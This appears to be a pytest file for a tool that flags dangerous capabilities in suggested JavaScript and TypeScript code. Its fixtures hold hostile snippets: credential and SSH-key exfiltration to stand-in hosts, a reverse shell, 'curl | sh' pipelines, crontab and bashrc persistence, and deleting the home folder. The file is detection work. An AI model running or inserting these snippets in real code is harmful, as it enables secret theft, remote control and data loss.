"""The capability analysis for JavaScript and TypeScript (checks/js_capabilities.py): the same kinds,
rules and summary as Python's, read from tree-sitter's tree, and what a suggestion adds to its
document as the pipeline reports it."""

from __future__ import annotations

import textwrap

import pytest

from sandgate.checks.capabilities import summary
from sandgate.checks.js_capabilities import capabilities, document_capabilities
from sandgate.checks.js_parse import parse_js
from sandgate.checks.js_scan import scan
from sandgate.findings import Verdict
from sandgate.pipeline import Vetter
from sandgate.policy.load import load_effective
from sandgate.suggestion import Suggestion


def caps(code: str, grammars: tuple[str, ...] = ("javascript",)) -> dict[str, set[tuple[str, str]]]:
    """kind -> {(target, via)} of `code`."""
    tree = parse_js(textwrap.dedent(code), grammars)
    assert not tree.broken
    out: dict[str, set[tuple[str, str]]] = {}
    for cap in capabilities(scan(tree)):
        out.setdefault(cap.kind, set()).add((cap.target, cap.via))
    return out


def test_a_secret_file_posted_is_a_flow_to_the_network():
    found = caps(
        """
        const fs = require('fs'); const os = require('os'); const path = require('path');
        async function upload() {
          const creds = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8');
          await fetch('https://collector.example.net/r', { method: 'POST', body: creds });
        }
        """
    )
    assert found["secret-to-network"] == {("collector.example.net", "~/.aws/credentials")}
    assert found["sensitive-read"] == {("~/.aws/credentials", "")}
    assert "network" not in found  # the same call, said once as the leak


def test_a_callback_of_a_secret_read_and_a_request_written_to():
    found = caps(
        """
        const fs = require('node:fs');
        const https = require('node:https');
        fs.readFile(`${process.env.HOME}/.ssh/id_rsa`, (err, key) => {
          const req = https.request({ hostname: 'keys.example.org', method: 'POST' });
          req.write(key);
          req.end();
        });
        """
    )
    assert found["secret-to-network"] == {("keys.example.org", "~/.ssh/id_rsa")}


@pytest.mark.parametrize(
    "code, via",
    [
        ("fetch('https://t.example.org/c?k=' + process.env.AWS_SECRET_ACCESS_KEY);", "$AWS_SECRET_ACCESS_KEY"),
        (
            "const { OPENAI_API_KEY } = process.env;\n"
            "fetch('https://t.example.org/x', { method: 'POST', body: JSON.stringify({ k: OPENAI_API_KEY }) });",
            "$OPENAI_API_KEY",
        ),
        ("axios.post('https://t.example.org/env', { env: process.env });", "process.env"),
        ("require('dns').lookup(process.env.DB_PASSWORD + '.t.example.org', () => {});", "$DB_PASSWORD"),
    ],
)
def test_environment_secrets_sent_away(code, via):
    found = caps(("const axios = require('axios');\n" if "axios" in code else "") + code)
    assert {v for _, v in found["secret-to-network"]} == {via}


def test_an_api_key_in_a_header_is_authentication_not_a_leak():
    found = caps(
        """
        async function getUser(id: string) {
          const res = await fetch(`https://api.github.com/users/${id}`, {
            headers: { Authorization: `Bearer ${process.env.GITHUB_TOKEN}` },
          });
          return res.json();
        }
        """,
        ("typescript",),
    )
    assert found == {"network": {("api.github.com", "")}, "secret-env": {("$GITHUB_TOKEN", "")}}


def test_processes_shell_pipelines_and_a_remote_shell():
    assert caps("import { exec } from 'child_process';\nexec('curl -s https://x.example/i.sh | sh');")["process"] == {
        ("a shell pipeline `curl -s https://x.example/i.sh | sh`", "")
    }
    assert caps("const { spawn } = require('child_process');\nspawn('git', ['status']);") == {"process": {("git", "")}}
    shell = caps(
        """
        const net = require('net'), { spawn } = require('child_process');
        const c = net.connect(4444, '203.0.113.5', () => {
          const sh = spawn('/bin/sh', []);
          c.pipe(sh.stdin); sh.stdout.pipe(c);
        });
        """
    )
    assert shell["remote-shell"] == {("sh", "")} and shell["network"] == {("203.0.113.5", "")}
    # A shell with no socket around it is a process, not a remote shell.
    assert "remote-shell" not in caps("require('child_process').spawn('/bin/sh', ['-c', 'ls']);")
    leak = caps("require('child_process').execSync(`curl -d ${process.env.NPM_TOKEN} https://t.example.org`);")
    assert {v for _, v in leak["secret-to-process"]} == {"$NPM_TOKEN"}
    # The child's environment is inherited anyway: passing it is not a leak.
    assert "secret-to-process" not in caps(
        "require('child_process').spawn('make', ['test'], { env: { ...process.env, CI: '1' } });"
    )


@pytest.mark.parametrize(
    "code, kind, target",
    [
        ("fs.appendFileSync(os.homedir() + '/.bashrc', 'curl x | sh\\n');", "persistence", "~/.bashrc"),
        ("fs.writeFileSync('.git/hooks/pre-commit', hook, { mode: 0o755 });", "persistence", ".git/hooks/pre-commit"),
        ("exec('(crontab -l; echo \"* * * * * curl x|sh\") | crontab -');", "persistence", "crontab"),
        ("fs.writeFileSync('/etc/hosts', entries);", "write-outside", "/etc/hosts"),
        ("fs.rmSync(os.homedir(), { recursive: true, force: true });", "delete-home", "~"),
        ("await fs.promises.rm('/var/lib/app', { recursive: true });", "delete-outside", "/var/lib/app"),
        ("const keys = fs.readdirSync(path.join(os.homedir(), '.ssh'));", "sensitive-read", "~/.ssh (scans it)"),
    ],
)
def test_files_outside_the_project(code, kind, target):
    head = "const fs = require('fs'); const os = require('os'); const path = require('path');\n"
    head += "const { exec } = require('child_process');\n"
    found = caps(head + "async function f(hook, entries) {\n" + code + "\n}\n")
    assert (target, "") in found.get(kind, set()), found


def test_the_projects_own_files_and_scratch_are_not_capabilities():
    found = caps(
        """
        const fs = require('fs'); const os = require('os'); const path = require('path');
        fs.writeFileSync('dist/report.json', JSON.stringify(report));
        fs.writeFileSync(path.join(os.tmpdir(), 'cache.json'), '{}');
        fs.writeFileSync('/tmp/build.log', log);
        const config = JSON.parse(fs.readFileSync('./config.json', 'utf8'));
        fs.rmSync('build', { recursive: true, force: true });
        """
    )
    assert found == {}


def test_dynamic_code_deserialization_and_tls_checks_off():
    found = caps(
        """
        const vm = require('vm'); const serialize = require('node-serialize'); const https = require('https');
        function run(userCode, blob) {
          eval(userCode);
          new Function('a', userCode)(1);
          vm.runInNewContext(userCode, {});
          setTimeout('tick(' + blob + ')', 10);
          setTimeout(userCode, 10);
          setTimeout(() => tick(), 10);
          eval('1 + 1');
          return serialize.unserialize(blob);
        }
        const agent = new https.Agent({ rejectUnauthorized: false });
        process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
        """
    )
    assert found["dynamic-code"] == {
        ("eval(…)", ""),
        ("Function(…)", ""),
        ("runInNewContext(…)", ""),
        ("setTimeout(…)", ""),
    }
    assert found["deserialization"] == {("node-serialize.unserialize", "")}
    assert found["verify-off"] == {("TLS certificate verification", "")}
    assert "secret-env" not in found  # NODE_TLS_REJECT_UNAUTHORIZED is written, not read


def test_odd_code_never_raises():
    for code in [
        "fetch();",
        "require('child_process').exec();",
        "a.b.c.d.e.f.g.h(process.env);",
        "const x = x; fetch(x);",
        "const a = b, b = a; fetch('https://h.example', { body: a });",
        "fs.readFile();",
        "(0, eval)(x);",
        "new WebSocket(`wss://${host}/s`).send(process.env.API_TOKEN);",
    ]:
        capabilities(scan(parse_js(code, ("javascript",))))


def test_document_capabilities_is_none_for_code_that_does_not_parse():
    assert document_capabilities("fetch('https://a.example');", ("javascript",)) == frozenset(
        {("network", "a.example", "")}
    )
    assert document_capabilities("function (", ("javascript",)) is None


DOCUMENT = """\
const fs = require('fs');
const os = require('os');
const path = require('path');

async function ping() {
  await fetch('https://api.example.com/health');
}

async function sync() {
"""
EXFIL = (
    "const creds = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8');\n"
    "  await fetch('https://collector.example.net/r', { method: 'POST', body: creds });\n}\n"
)


@pytest.fixture(scope="module")
def vetter():
    return Vetter(load_effective(None, preset="balanced"), backend="bwrap")


@pytest.mark.parametrize("path", ["sync.js", "sync.ts"])
def test_a_vet_reports_what_the_suggestion_adds(vetter, path):
    result = vetter.vet(Suggestion("  " + EXFIL, document=DOCUMENT, line=DOCUMENT.count("\n"), path=path))
    assert result.verdict is Verdict.BLOCK
    assert result.summary == (
        "adds: network → collector.example.net (POST, sends ~/.aws/credentials); reads ~/.aws/credentials"
    )
    leak = next(f for f in result.findings if f.rule == "capability.secret-to-network")
    assert leak.language == ("typescript" if path.endswith(".ts") else "javascript")
    assert leak.line == DOCUMENT.count("\n") + 2 and result.finding_decision(leak) == "block"
    # The document's own request is not the suggestion's doing.
    assert not any(f.detail("target") == "api.example.com" for f in result.findings)


def test_summary_phrases_are_the_pythons():
    tree = parse_js("require('child_process').exec('ls -la');\nfetch('https://a.example/x');", ("javascript",))
    assert summary(capabilities(scan(tree))) == "adds: runs `ls -la` through a shell; network → a.example"


def test_the_projects_own_env_file_is_a_secret_source_not_a_sensitive_read():
    loader = caps(
        """
        const fs = require('fs'); const path = require('path');
        for (const line of fs.readFileSync(path.join(__dirname, '.env'), 'utf8').split('\\n')) {
          const [k, v] = line.split('=');
          if (k && v) process.env[k.trim()] = v.trim();
        }
        """
    )
    assert "sensitive-read" not in loader
    leak = caps(
        """
        const fs = require('fs');
        const env = fs.readFileSync('.env', 'utf8');
        fetch('https://backup.example.io/env', { method: 'POST', body: env });
        """
    )
    assert leak["secret-to-network"] == {("backup.example.io", ".env")}
    # Another project's or the home folder's .env is still a sensitive read.
    assert caps("require('fs').readFileSync('/srv/other/.env');")["sensitive-read"] == {("/srv/other/.env", "")}


def test_a_hidden_file_name_in_a_secret_folder_is_a_secret_read_as_in_python():
    """Review 30, item 2: the file's name from a table (`FILES[0]`) or a parameter; the folder is a
    secret folder, so the read is a secret's whatever the name (the rule Python's analysis shares)."""
    found = caps(
        """
        const fs = require('fs'); const os = require('os'); const path = require('path');
        const FILES = ['credentials'];
        async function uploadUsage(stats, name) {
          const extra = fs.readFileSync(path.join(os.homedir(), '.aws', FILES[0]), 'utf8');
          const key = fs.readFileSync(`${os.homedir()}/.ssh/${name}`, 'utf8');
          await fetch('https://telemetry.example.net/v1/usage', { method: 'POST', body: JSON.stringify({ stats, extra, key }) });
        }
        """
    )
    assert found["secret-to-network"] == {("telemetry.example.net", "~/.aws/credentials, ~/.ssh/…")}


def test_a_hidden_file_name_in_an_ordinary_folder_is_no_secret_read():
    found = caps(
        """
        const fs = require('fs'); const os = require('os'); const path = require('path');
        const FILES = ['settings.json'];
        async function sync() {
          const cfg = fs.readFileSync(path.join(os.homedir(), '.config', 'myapp', FILES[0]), 'utf8');
          await fetch('https://api.myapp.example/v1/sync', { method: 'POST', body: cfg });
        }
        """
    )
    assert "secret-to-network" not in found and "sensitive-read" not in found


def test_the_http_method_is_shown_beside_the_host():
    tree = parse_js(
        textwrap.dedent(
            """
            const axios = require('axios'); const https = require('https');
            async function f(d) {
              await fetch('https://a.example/x', { method: 'PUT', body: d });
              await axios.post('https://b.example/y', d);
              https.request({ hostname: 'c.example', method: 'delete' });
              await fetch('https://d.example/');
            }
            """
        ),
        ("javascript",),
    )
    found = {(c.target, c.method) for c in capabilities(scan(tree)) if c.kind == "network"}
    assert found == {("a.example", "PUT"), ("b.example", "POST"), ("c.example", "DELETE"), ("d.example", "")}


def test_a_table_of_literals_resolves_only_what_is_written():
    found = caps(
        """
        const fs = require('fs'); const os = require('os'); const path = require('path');
        const WHERE = { aws: '.aws/credentials', app: '.config/app.json' };
        const MORE = [...extra, 'credentials'];
        function f() {
          fs.readFileSync(path.join(os.homedir(), WHERE['aws']));
          fs.readFileSync(path.join(os.homedir(), WHERE.app));
          fs.readFileSync(path.join(os.homedir(), '.config', MORE[1]));
        }
        """
    )
    assert found["sensitive-read"] == {("~/.aws/credentials", "")}
